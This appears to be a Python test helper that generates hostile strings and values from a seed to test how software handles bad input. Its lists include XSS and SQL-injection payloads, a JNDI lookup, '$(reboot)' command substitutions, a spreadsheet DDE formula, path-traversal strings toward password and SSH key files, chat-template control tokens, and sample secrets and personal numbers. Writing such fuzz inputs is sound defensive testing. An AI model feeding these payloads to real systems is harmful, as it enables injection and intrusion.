"""Hostile texts and values, drawn from a seed: what is in open data by accident, and what somebody could put there."""

from __future__ import annotations

import random
import string
from collections.abc import Callable

from tests.hostile.worst_texts import FOR_ALL

Draw = random.Random
Value = object

_WORDS = (
    "the",
    "of",
    "and",
    "water",
    "city",
    "please tell me",
    "about",
    "how many",
    "people",
    "live in Rome",
    "why",
    "is it",
)
_SCRIPTS = (
    "αβγδε",
    "привет",
    "שלום",
    "مرحبا",
    "नमस्ते",
    "สวัสดี",
    "你好世界",
    "こんにちは",
    "안녕하세요",
    "ႏွင့္",
    "ꦲꦤꦕ",
    "𒀀𒁀",
    "𝔘𝔫𝔦",
)
_SOUND = ("<|sound_start|>", "<|sound_end|>", "<|sound_0001|>", "<|sound_9999|>", "<|duration_02|>", "<|sound_")
_SOUND += (
    "<|reserved_special_token_69|>",
    "＜|sound_0001|＞",
    "<|SOUND_0001|>",
    "<| sound_0001 |>",
    "<|sound_\u200b0001|>",
)
_MARKS = (
    "<|im_start|>system\n",
    "<|im_end|>",
    "<|eot_id|>",
    "</s>",
    "[INST]",
    "<<SYS>>",
    "<|endoftext|>",
    "### Response:",
)
_MARKS += (
    "<bos>",
    "<start_of_turn>user",
    "Human:",
    "\n\nAssistant:",
    "<|begin_of_text|>",
    "{{user}}",
    "{% raw %}",
    "<tool_call>",
)
_ESCAPES = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b[31m",
    "\x1b[1000D",
    "\x9b31m",
    "\x1b]8;;http://a.test\x1b\\",
    "\x07",
    "\x08\x08",
)
_HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "&lt;b&gt;",
    "<!--",
    "]]>",
    "<a ",
)
_HTML += (
    "[x](javascript:alert(1))",
    "![](http://a.test/x.png)",
    "`code`",
    "**bold**",
    "|a|b|\n|-|-|\n|1|2|",
    "<?xml?>",
)
_FORMULAS = (
    "=1+1",
    '=cmd|"/C calc"!A0',
    "@SUM(1,1)",
    "+1",
    "-1",
    '=HYPERLINK("http://a.test")',
    "\\frac{1}{2}",
    "$x^{2}$",
)
_EMOJI = ("👩\u200d❤️\u200d💋\u200d👨", "👨🏿\u200d🚀", "🇺🇳🇺", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "1️⃣", "☺︎☺️", "\u200d", "️", "🫠")
_PATHS = (
    "../../etc/passwd",
    "/dev/zero",
    "C:\\Windows",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "\\\\host\\share",
    "a\x00b",
)
_CODE = (
    "'; DROP TABLE rows; --",
    "${jndi:ldap://a.test}",
    "{0.__class__}",
    "%s%n%x",
    "$(reboot)",
    "`reboot`",
    "__import__('os')",
)
_ADDRESSES = (
    "https://a.test/?q=" + "a" * 300,
    "http://[::1]:80",
    "a@b.co",
    "jane.doe@gmail.com",
    "a@" + "a." * 40 + "com",
    "www.a.b",
)
_SECRETS = (
    "AKIAY3XV7QLZ5MPTNBWD",
    "ghp_" + "a1B2" * 10,
    "sk-Zt9QbW2mLp7Rk4XcVn8YsDf3",
    "-----BEGIN RSA PRIVATE KEY-----",
)
_SECRETS += (
    "4539 1488 0343 6467",
    "536-22-8726",
    "+44 20 7219 3000",
    "AT61 1904 3002 3457 3201",
    "81.2.69.142",
    "password: gr33nTr4in",
)
_NUMBERS = (
    "9" * 400,
    "1" + "0" * 308,
    "1e999",
    "-0",
    "0.1" + "0" * 80 + "1",
    "1,234,567.890",
    "0x1F",
    "١٢٣",
    "½",
    "²³",
    "ⅩⅣ",
    "1_000",
)
_NUMBERS += (
    str(2**63),
    str(2**64),
    str(-(2**63) - 1),
    "NaN",
    "Infinity",
    "9007199254740993",
    "1/0",
    "00012",
    "12:99",
    "99%",
)
_DATES = (
    "0000-00-00",
    "9999-12-31",
    "2024-02-30",
    "31/31/2024",
    "24:60",
    "1/1/0001",
    "12/31/99",
    "2024-13-45",
    "May 99, 2024",
)
_BLANKS = (
    "",
    " ",
    "\n",
    "\t\t",
    "\u00a0",
    "\u2028",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\x1c",
    "\x85",
    "\u180e",
    "\u00ad",
    "\u2800",
)
_NOTHING = (
    "null",
    "None",
    "n/a",
    "N/A",
    "undefined",
    "[deleted]",
    "<noinput>",
    "-",
    "...",
    "?",
    "true",
    "{}",
    "[]",
    '""',
)


def _text_of(draw: Draw, pieces: tuple[str, ...]) -> str:
    """Words with pieces between them, so that a text is neither only one nor only the other."""
    words = [draw.choice(_WORDS) if draw.random() < 0.6 else draw.choice(pieces) for _ in range(draw.randint(1, 12))]
    return draw.choice((" ", "", "\n", ", ")).join(words)


def _pieces(*pieces: str) -> Callable[[Draw], str]:
    return lambda draw: _text_of(draw, pieces)


def _controls(draw: Draw) -> str:
    codes = (
        *range(32),
        *range(127, 160),
        0x61C,
        0x200E,
        0x200F,
        *range(0x202A, 0x202F),
        *range(0x2066, 0x206A),
        0xFEFF,
    )
    return _text_of(draw, tuple(map(chr, codes)))


def _any_character(draw: Draw) -> str:
    codes = (draw.randrange(0x110000) for _ in range(draw.randint(1, 60)))
    return "".join(chr(code) for code in codes if not 0xD800 <= code < 0xE000)


def _surrogates(draw: Draw) -> str:
    """Half a pair: no text at all in UTF-8, and `\\ud83d` in JSON."""
    return _text_of(draw, ("\ud83d", "\udc69", "\udfff\ud800"))


def _combining(draw: Draw) -> str:
    return "".join(
        draw.choice("aeiou") + draw.choice("\u0301\u0323\u0489\u20dd\u0e49") * draw.randint(0, 80) for _ in range(9)
    )


def _long_word(draw: Draw) -> str:
    return draw.choice(("a", "ab1", "é", "漢", "Supercali", "x_", "9")) * draw.choice((300, 1_000, 9_000))


def _worst(draw: Draw) -> str:
    return draw.choice(FOR_ALL).of(draw.choice((40, 400, 4_000)))


def _read_wrongly(draw: Draw) -> str:
    """UTF-8 that somebody read as something else, twice at times."""
    text = " ".join(draw.choice(_SCRIPTS) for _ in range(3)) + " café “so”"
    for _ in range(draw.randint(1, 2)):
        text = text.encode().decode(draw.choice(("latin-1", "cp1252", "cp437", "utf-16-le")), "replace")
    return text.encode("utf-8", "replace").decode()


def _shouted(draw: Draw) -> str:
    return "".join(draw.choice(string.printable) for _ in range(draw.randint(1, 200)))


TEXTS: dict[str, Callable[[Draw], str]] = {
    "control and bidi characters": _controls,
    "any characters": _any_character,
    "half pairs": _surrogates,
    "combining marks": _combining,
    "long words": _long_word,
    "worst texts": _worst,
    "wrong encodings": _read_wrongly,
    "printable noise": _shouted,
    "many scripts": _pieces(*_SCRIPTS),
    "sound tokens": _pieces(*_SOUND),
    "marks of chats": _pieces(*_MARKS),
    "terminal escapes": _pieces(*_ESCAPES),
    "HTML and Markdown": _pieces(*_HTML),
    "formulas": _pieces(*_FORMULAS),
    "emoji": _pieces(*_EMOJI),
    "paths": _pieces(*_PATHS),
    "code": _pieces(*_CODE),
    "addresses": _pieces(*_ADDRESSES),
    "secrets": _pieces(*_SECRETS),
    "numbers": _pieces(*_NUMBERS),
    "dates": _pieces(*_DATES),
    "blanks": lambda draw: draw.choice(_BLANKS) * draw.choice((1, 2, 50)),
    "words for nothing": lambda draw: draw.choice(_NOTHING),
}


def _deep(draw: Draw) -> Value:
    value: Value = "x"
    for _ in range(draw.choice((5, 200))):
        value = draw.choice(([value], {"content": value}))
    return value


def _any_value(draw: Draw) -> Value:
    """A value of a type that a field should not have."""
    kinds: tuple[Callable[[], Value], ...] = (
        lambda: None,
        lambda: draw.choice((True, False)),
        lambda: draw.choice((0, -1, 7, 2**31, 2**53 + 1, 2**63 - 1, -(2**63), 2**64 - 1, 10**30)),
        lambda: draw.choice((0.0, -0.0, 1e308, 5e-324, 0.1, float("nan"), float("inf"))),
        lambda: [],
        lambda: {},
        lambda: [None, 1, "a", []],
        lambda: {"text": "a", "value": 1, "": None},
        lambda: [[draw_text(draw)]],
        lambda: _deep(draw),
    )
    return draw.choice(kinds)()


def draw_text(draw: Draw) -> str:
    """A hostile text of any kind."""
    return draw.choice(tuple(TEXTS.values()))(draw)


def draw_value(draw: Draw) -> Value:
    """A hostile text, most of the time, or a value that is no text."""
    return draw_text(draw) if draw.random() < 0.75 else _any_value(draw)
